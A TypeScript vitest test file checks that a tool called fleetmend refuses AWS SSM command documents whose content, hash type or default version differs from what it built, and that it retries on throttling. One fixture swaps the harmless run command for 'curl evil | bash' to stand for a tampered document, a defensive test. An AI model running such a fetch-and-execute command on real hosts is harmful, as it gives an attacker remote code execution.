import { DescribeDocumentCommand, GetDocumentCommand, type SSMClient } from '@aws-sdk/client-ssm';
import { describe, expect, it } from 'vitest';
import { contentSha256, createReviewedDocuments } from './reviewed-documents.ts';

const NAME = 'fleetmend-pause-image-repair-aaaaaaaaaaaa';
const CONTENT = {
  schemaVersion: '2.2',
  mainSteps: [{ name: 'repair', inputs: { runCommand: ['#!/bin/bash', 'true'] } }],
};
const TEXT = JSON.stringify(CONTENT);
const EVIL = TEXT.replace('true', 'curl evil | bash');
const HASH = 'e'.repeat(64);

const error = (name: string, httpStatusCode: number): Error =>
  Object.assign(new Error('no'), { name, $metadata: { httpStatusCode } });

/** SSM with one document: its versions, what DescribeDocument adds, and a failure of the next calls. */
const world = (versions: readonly string[] = [TEXT], described: object = {}) => {
  const calls: string[] = [];
  const failures: Error[] = [];
  const send = async (command: unknown) => {
    const failure = failures.shift();
    if (command instanceof DescribeDocumentCommand) {
      calls.push(`describe ${command.input.DocumentVersion}`);
      if (failure !== undefined) throw failure;
      return { Document: { Hash: HASH, HashType: 'Sha256', Status: 'Active', DefaultVersion: '1', ...described } };
    }
    if (!(command instanceof GetDocumentCommand)) throw new Error('no such call');
    calls.push(`get ${command.input.DocumentVersion}`);
    if (failure !== undefined) throw failure;
    return { Content: versions[Number(command.input.DocumentVersion) - 1] };
  };
  const documents = createReviewedDocuments({
    client: { send: send as SSMClient['send'] },
    built: new Map([[NAME, contentSha256(CONTENT)]]),
  });
  return { calls, failures, documents };
};

describe('a document at SSM', () => {
  it('is read once, however many commands need it', async () => {
    const w = world();
    const reading = { kind: 'built', hash: HASH };
    expect(await Promise.all([w.documents.read(NAME), w.documents.read(NAME)])).toEqual([reading, reading]);
    expect(await w.documents.read(NAME)).toEqual(reading);
    expect(w.calls).toEqual(['describe 1', 'get 1']);
    w.documents.forget(NAME);
    await w.documents.read(NAME);
    expect(w.calls).toHaveLength(4);
  });

  it('is the built one in another indentation and another order of keys', async () => {
    const { schemaVersion, mainSteps } = CONTENT;
    const text = JSON.stringify({ mainSteps, schemaVersion }, undefined, 4);
    expect(await world([text]).documents.read(NAME)).toEqual({ kind: 'built', hash: HASH });
  });

  it.each<[string, readonly string[], object, RegExp]>([
    ['another content', [EVIL], {}, /its content in version 1 is not what was built/],
    ['a key twice', [TEXT.replace('{', '{"mainSteps":[],')], {}, /an object has a key twice/],
    ['no content', [''], {}, /it is not JSON/],
    [
      'another default version',
      [TEXT, EVIL],
      { DefaultVersion: '2' },
      /version 2 is not what was built, and is the default/,
    ],
    ['no hash', [TEXT], { Hash: undefined }, /SSM reports no Sha256/],
    ['a weak hash', [TEXT], { HashType: 'Sha1' }, /SSM reports no Sha256 for it but Sha1/],
  ])('is refused with %s, and read again each time', async (_, versions, described, why) => {
    const w = world(versions, described);
    expect(await w.documents.read(NAME)).toEqual({ kind: 'other', why: expect.stringMatching(why) });
    const { length } = w.calls;
    await w.documents.read(NAME);
    expect(w.calls).toHaveLength(2 * length);
  });

  it('is the built one where a later version has the same content', async () => {
    expect(await world([TEXT, `${TEXT} `], { DefaultVersion: '2' }).documents.read(NAME)).toMatchObject({
      kind: 'built',
    });
  });

  it('is refused where this version of fleetmend did not build it', async () => {
    const w = world();
    expect(await w.documents.read('fleetmend-x')).toEqual({
      kind: 'other',
      why: expect.stringContaining('did not build'),
    });
    expect(w.calls).toEqual([]);
  });

  it.each<[string, Error, object]>([
    ['is not there yet', error('InvalidDocument', 400), { kind: 'missing', problem: expect.stringContaining(NAME) }],
    ['may not be read yet', error('AccessDeniedException', 400), { kind: 'refused', problem: expect.any(String) }],
    ['is read while SSM throttles', error('ThrottlingException', 400), { kind: 'retry', problem: expect.any(String) }],
    ['is read while SSM fails', error('InternalServerError', 500), { kind: 'retry', problem: expect.any(String) }],
    [
      'has lost its first version',
      error('InvalidDocumentVersion', 400),
      { kind: 'other', why: expect.stringContaining('gone') },
    ],
  ])('that %s is read again', async (_, failure, reading) => {
    const w = world();
    w.failures.push(failure);
    expect(await w.documents.read(NAME)).toEqual(reading);
    expect(await w.documents.read(NAME)).toMatchObject({ kind: 'built' });
  });

  it('is asked for again while SSM still makes it', async () => {
    expect(await world([TEXT], { Status: 'Creating' }).documents.read(NAME)).toMatchObject({ kind: 'retry' });
  });
});
